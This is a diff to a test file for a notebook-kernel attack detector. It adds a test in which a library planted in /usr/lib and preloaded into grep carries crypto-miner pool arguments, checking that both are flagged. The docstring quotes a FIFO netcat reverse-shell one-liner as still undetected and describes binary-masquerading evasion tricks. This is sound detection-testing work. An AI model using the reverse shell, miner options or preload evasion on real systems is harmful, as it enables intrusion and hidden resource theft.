@@ -20,7 +20,8 @@ Found and fixed:
   on its command line counted for nothing; so was the system's own dash bind-mounted over tac.
   The sampler marks a program file in the system's folders written since the kernel's session
   began (`exe:new`, its inode's ctime) or with a mount on its path (`exe:mounted`), and the
-  engine judges it as any other program.
+  engine judges it as any other program; so too one that maps a library written since into
+  /usr/lib (`library:new`: preloaded into the system's grep, it reads grep's arguments).
 
 Left (strict xfail): the classic FIFO reverse shell from a script file (`cat f | sh -i 2>&1 |
 nc HOST PORT > f`): the shell's streams are pipes, nc holds the connection, no command line
@@ -29,6 +30,7 @@ names a shell served to the network.
 
 from __future__ import annotations
 
+import glob
 import os
 import shutil
 import signal
@@ -46,7 +48,7 @@ from colab_guard.detect.commands import network_redirects
 from colab_guard.detect.engine import Engine
 from colab_guard.detect.signatures import load_signatures
 from colab_guard.observe.processes import ProcessSampler
-from tests.test_shell_streams import Greeter, _wait_for
+from tests.test_shell_streams import Greeter, _wait_for, bash_cell_connected
 
 RULES = load_signatures()
 BUSYBOX = shutil.which("busybox")
@@ -279,6 +281,34 @@ def test_a_program_written_into_a_system_folder_is_judged_on_its_arguments(tmp_p
     finally:
         if os.path.exists(TEXT_TOOL_SLOT):
             os.remove(TEXT_TOOL_SLOT)
+
+
+def _system_library_folder() -> str | None:
+    libz = next(iter(glob.glob("/usr/lib/*/libz.so.1") + glob.glob("/lib/*/libz.so.1")), None)
+    return os.path.dirname(os.path.realpath(libz)) if libz is not None else None
+
+
+@pytest.mark.skipif(_system_library_folder() is None
+                    or not os.access(_system_library_folder(), os.W_OK),
+                    reason="needs libz and its folder writable (root, as Colab's kernels)")
+def test_a_library_written_into_a_system_folder_and_preloaded_is_judged_on_its_arguments():
+    """A library the cell writes to /usr/lib/… and preloads into the system's grep passes for
+    the system's (a library from elsewhere does not: tests/test_honest_sampled19.py); it reads
+    grep's arguments as it likes. A copy of libz stands in for it."""
+    folder = _system_library_folder()
+    library = Path(folder) / "libfast-rt20.so"
+    shutil.copy(Path(folder) / "libz.so.1", library)
+    script = (f"sleep 30 | LD_PRELOAD={library} "
+              "grep -e '--donate-level 1 -o pool.example.org:3333'\n")
+    try:
+        with bash_cell_connected(script) as bash:
+            grep, detections = _wait_for(ProcessSampler(), bash.pid,
+                                         lambda p: p.name == "grep" and p.sockets
+                                         and str(library) in p.libraries)
+            assert "library:new" in grep.exe_markers
+            assert "mining-miner-options" in _ids(detections)
+    finally:
+        library.unlink()
 
 
 def test_the_systems_own_text_tool_carries_no_new_file_trait():
